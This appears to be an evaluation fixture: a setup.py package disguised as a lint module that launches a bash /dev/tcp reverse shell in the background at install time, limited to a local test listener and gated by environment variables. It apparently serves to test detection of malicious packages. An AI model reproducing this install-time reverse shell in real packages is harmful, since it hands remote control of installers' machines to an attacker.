# Evaluation fixture (malicious): the one-line reverse shell,
# "bash -i >& /dev/tcp/HOST/PORT 0>&1", started in the background from
# module-level setup.py code.  Acts only inside the evaluation: the
# listener is 127.0.0.1 at SP_C2_PORT (it sends one command that writes a
# marker, then hangs up).
import os

from setuptools import setup

_lock = os.path.join(os.environ.get("SP_TMP", ""), ".kml.lock")
if os.environ.get("SP_C2_PORT") and os.environ.get("SP_TOKEN") and os.environ.get("SP_TMP") \
        and not os.path.exists(_lock):
    open(_lock, "w").close()
    os.system("bash -c 'bash -i >& /dev/tcp/127.0.0.1/%s 0>&1' >/dev/null 2>&1 &"
              % int(os.environ["SP_C2_PORT"]))

setup(name="revshell-devtcp", version="0.0.9", py_modules=["kmlint"])
